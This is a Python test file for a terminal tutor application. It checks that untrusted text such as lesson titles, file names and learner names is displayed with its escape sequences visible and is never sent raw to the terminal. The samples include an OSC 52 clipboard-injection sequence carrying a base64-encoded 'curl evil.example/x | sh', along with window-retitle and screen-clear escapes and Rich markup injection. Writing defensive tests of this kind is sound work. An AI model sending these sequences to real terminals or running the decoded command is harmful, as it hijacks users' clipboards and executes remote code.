"""Issue 16, terminal escape injection: untrusted text is shown, never sent raw to a terminal.

An OSC 52 sequence (``ESC ] 52 ; c ; <base64> BEL``) in a pack title put a command on the clipboard,
``ESC ] 2 ;`` retitled the window and ``ESC [ 2 J`` blanked the TUI. Every path below once let them through.
"""

from __future__ import annotations

import json
import textwrap

from rich.console import Console
from rich.markup import escape as rich_escape

from tests.security.cli_run import LESSONS, raw_controls, tutor
from tutor.sim.shell import Shell
from tutor.sim.world import World
from tutor.textsafe import markup_safe, one_line, visible

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07"  # base64 of "curl evil.example/x | sh"
TITLE = "\x1b]2;pwned\x07"
BLANK = "\x1b[2J"


# --- the sanitiser itself -----------------------------------------------------


def test_visible_shows_c0_c1_and_del_and_keeps_newline_and_tab():
    assert visible(f"a{OSC52}b") == "a\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\\x07b"
    assert visible("\x9b31m \x7f \x00 \r") == "\\x9b31m \\x7f \\x00 \\x0d"
    assert visible("line one\n\tline two") == "line one\n\tline two"
    assert raw_controls(visible("".join(map(chr, range(0x00, 0xA0))))) == []


def test_printable_text_is_never_changed_so_the_sanitiser_may_skip_its_regex_for_it():
    """visible/one_line return isprintable() text as it is: no character they show is printable."""
    from tutor.textsafe import CONTROL, CONTROL_OR_BREAK

    printable = "".join(c for c in map(chr, range(0x110000)) if c.isprintable())
    assert CONTROL.search(printable) is None and CONTROL_OR_BREAK.search(printable) is None
    assert visible("\u202egnp.exe") == "\\u202egnp.exe" and one_line("a\u2028b") == "a\\u2028b"


def test_one_line_also_shows_newlines_so_a_field_cannot_add_lines():
    assert one_line("Ann\n# Heading\tx") == "Ann\\x0a# Heading\\x09x"


def test_markup_safe_is_rich_escape_after_visible():
    for text in ("[/bold]", "[red]x[/red]", "a\\[b]", "end\\", "[0] [link=javascript:x]y[/link]"):
        assert markup_safe(text) == rich_escape(text)
    console = Console(width=80, record=True)
    console.print("name: " + markup_safe("[/bold][red]Ann" + BLANK))
    assert console.export_text().strip() == "name: [/bold][red]Ann\\x1b[2J"


# --- the simulator: echo, cat, file names, the prompt --------------------------


def test_echo_e_shows_escape_sequences_instead_of_sending_them():
    shell = Shell(World.default())
    result = shell.run("echo -e '\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\\a'")
    assert result.exit_code == 0
    assert result.stdout == ["\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\\x07"]


def test_cat_of_a_file_holding_escapes_shows_them():
    shell = Shell(World.default())
    assert shell.run("echo -e 'before\\e[2Jafter' > ~/notes.txt").exit_code == 0
    assert shell.world.machine.fs.read(shell.world.machine.home + "/notes.txt") == f"before{BLANK}after\n"
    result = shell.run("cat ~/notes.txt")
    assert result.stdout == ["before\\x1b[2Jafter"]


def test_a_folder_named_with_an_escape_shows_safely_in_ls_errors_and_the_prompt():
    shell = Shell(World.default())
    assert shell.run("mkdir $'\\e]2;pwned\\a'").exit_code == 0
    assert raw_controls(shell.run("ls").text) == []
    assert "\\x1b]2;pwned\\x07" in shell.run("ls").text
    assert shell.run("cd $'\\e]2;pwned\\a'").exit_code == 0
    assert shell.prompt == "~/\\x1b]2;pwned\\x07 $ "
    assert raw_controls(shell.run("docker pull $'\\e[2J'").text) == []


def test_help_says_the_simulator_shows_escapes_rather_than_sending_them():
    shell = Shell(World.default())
    words = " ".join(shell.run("help shell").text.split())
    assert "echo -e and cat show control characters as \\x1b (ESC)" in words
    assert "the simulator shows escape sequences rather than sending them to your terminal" in words
    assert "never sent to your" in shell.run("help simplifications").text


def test_shell_subcommand_output_has_no_raw_escapes(tmp_path):
    proc = tutor("shell", data=tmp_path, stdin=f"echo -e '\\e]2;pwned\\a'\ncat $'{BLANK}'\n")
    assert raw_controls(proc.stdout + proc.stderr) == []
    assert "\\x1b]2;pwned\\x07" in proc.stdout
    assert "cat: '\\x1b[2J': No such file or directory" in proc.stderr or "\\x1b[2J" in proc.stderr


# --- lessons and packs: refused by validate, shown safely by learn -------------


def _lesson(title: str = "Tiny", extra: str = "") -> str:
    return textwrap.dedent(f"""\
        id: tiny
        title: {title}
        summary: A tiny lesson.
        steps:
          - prose: Hello.
          - task:
              id: make-file
              prompt: Make a file.
              goal:
                - file_contains: {{path: ~/notes.txt, text: hello}}
              hints: [Use echo.]
              solution:
                - echo hello > ~/notes.txt
              explanation: Done.{extra}
        """)


def test_validate_reports_a_raw_control_character_as_file_line(tmp_path):
    lesson = tmp_path / "evil.yaml"
    lesson.write_text(_lesson(title=f"Tags {OSC52}"), encoding="utf-8")
    proc = tutor("validate", str(lesson), data=tmp_path)
    assert proc.returncode == 1
    assert proc.stdout.splitlines() == [
        f"{lesson}:2: the file contains control character U+001B (\\x1b); lesson files hold text, newlines "
        "and tabs only"
    ]
    assert raw_controls(proc.stdout + proc.stderr) == []


def test_validate_reports_a_control_character_written_as_a_yaml_escape(tmp_path):
    lesson = tmp_path / "evil.yaml"
    lesson.write_text(_lesson(title='"Tags \\e]52;c;Y3VybA==\\a"'), encoding="utf-8")
    proc = tutor("validate", str(lesson), data=tmp_path)
    assert proc.returncode == 1
    assert proc.stdout.startswith(f"{lesson}:2: control character U+001B (\\x1b) in the text (written as an escape)")


def test_a_pack_title_with_an_escape_fails_validate(tmp_path):
    pack = tmp_path / "pack"
    pack.mkdir()
    (pack / "01-tiny.yaml").write_text(_lesson(), encoding="utf-8")
    (pack / "pack.yaml").write_text('title: "Workshop \\x1b]52;c;Y3VybA==\\x07"\n', encoding="utf-8")
    proc = tutor("validate", str(pack), data=tmp_path)
    assert proc.returncode == 1
    assert f"{pack / 'pack.yaml'}:1: control character U+001B" in proc.stdout


def test_learn_list_shows_a_folder_name_with_escapes_safely(tmp_path):
    pack = tmp_path / f"pack{TITLE}"
    pack.mkdir()
    (pack / "01-tiny.yaml").write_text(_lesson(), encoding="utf-8")
    proc = tutor("learn", "--list", "--pack", str(pack), data=tmp_path / "data")
    assert proc.returncode == 0, proc.stderr
    assert raw_controls(proc.stdout + proc.stderr) == []
    assert proc.stdout.splitlines()[0] == "pack\\x1b]2;pwned\\x07"
    assert "tiny" in proc.stdout


def test_learn_leaves_out_a_lesson_with_escapes_and_says_so_safely(tmp_path):
    pack = tmp_path / f"pack{BLANK}"
    pack.mkdir()
    (pack / "01-tiny.yaml").write_text(_lesson(), encoding="utf-8")
    (pack / "02-evil.yaml").write_text(_lesson(title=f"Evil {OSC52}").replace("id: tiny", "id: evil"),
                                       encoding="utf-8")
    proc = tutor("learn", "tiny", "--pack", str(pack), data=tmp_path / "data", stdin="quit\n")
    assert proc.returncode == 0, proc.stderr
    assert raw_controls(proc.stdout + proc.stderr) == []
    assert "02-evil.yaml:2: the file contains control character U+001B" in proc.stderr
    assert "Lesson: Tiny" in proc.stdout


def test_the_builtin_lessons_hold_no_control_characters():
    for path in sorted(LESSONS.glob("*.yaml")):
        assert raw_controls(path.read_text(encoding="utf-8")) == [], path


# --- class-report: learner names ---------------------------------------------------


def _export(learner: str) -> dict:
    return {
        "format": "registry-tutor-results", "version": 1, "learner": learner, "profile": "p",
        "exported": "2026-03-01T10:00:00Z", "app": "registry-tutor test", "pack": None,
        "lessons": [{"id": "first-push", "title": "Your first push", "status": "done"}],
        "quiz": [{"quiz": "seed-1-current", "question": "q1", "type": "pull-version", "correct": False,
                  "answer": f"[link=https://evil.example]{BLANK}click[/link]", "misconception": "[/red]",
                  "attempts": 1}],
    }


def test_class_report_shows_markup_and_escapes_in_names_as_text(tmp_path):
    evil = tmp_path / "evil.json"
    evil.write_text(json.dumps(_export(f"[/bold]{TITLE}Mallory")), encoding="utf-8")
    fine = tmp_path / "fine.json"
    fine.write_text(json.dumps(_export("Ann")), encoding="utf-8")
    proc = tutor("class-report", str(evil), str(fine), data=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "MarkupError" not in proc.stderr and "Traceback" not in proc.stderr
    assert raw_controls(proc.stdout + proc.stderr) == []
    assert "2 learner(s)" in proc.stdout
    assert "[link=https://evil.example]\\x1b[2Jclick[/link]" in proc.stdout.replace("\n", "").replace("│", "")


def test_world_file_contents_and_names_reach_the_screen_visibly():
    """A saved world can carry any text in its files: `cat`, `ls` and `explain` show it safely."""
    world = World.default()
    home = world.machine.home
    world.machine.fs.write(f"{home}/motd{TITLE}", f"Welcome{OSC52}\n")
    shell = Shell(world)
    for line in ("ls ~", f"cat ~/motd$'{TITLE}'".replace("\x1b", "\\e").replace("\x07", "\\a"), "history"):
        result = shell.run(line)
        assert raw_controls(result.text) == [], line
    assert shell.run("cat ~/motd*").stdout == ["Welcome\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\\x07"]
    shell.run("echo hi > ~/motd*")
    assert raw_controls(shell.explain().text) == []
    assert "\\x1b]2;pwned\\x07" in shell.explain().text
